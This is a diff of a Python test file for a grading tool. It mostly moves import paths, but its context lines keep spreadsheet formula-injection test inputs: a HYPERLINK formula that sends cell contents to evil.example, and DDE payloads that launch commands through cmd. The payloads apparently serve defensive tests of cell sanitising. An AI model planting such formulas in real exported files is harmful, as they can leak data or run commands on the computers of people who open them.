@@ -14,10 +14,11 @@ from pathlib import Path
 import pytest
 
 import course_config
-from graders.frontends.grade import decisions, lms_exports, regrade, tables
-from graders.frontends.grade.similarity import Pair, similarity_csv
+from graders.frontends.grade.term import decisions
+from graders.frontends.grade.outputs import lms_exports, regrade, tables
+from graders.frontends.grade.outputs.similarity import Pair, similarity_csv
 from graders.frontends.grade.spreadsheet import FORMULA_STARTS, cell
-from graders.frontends.grade.standing import Person, Standing
+from graders.frontends.grade.term.standing import Person, Standing
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
 EVILS = [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
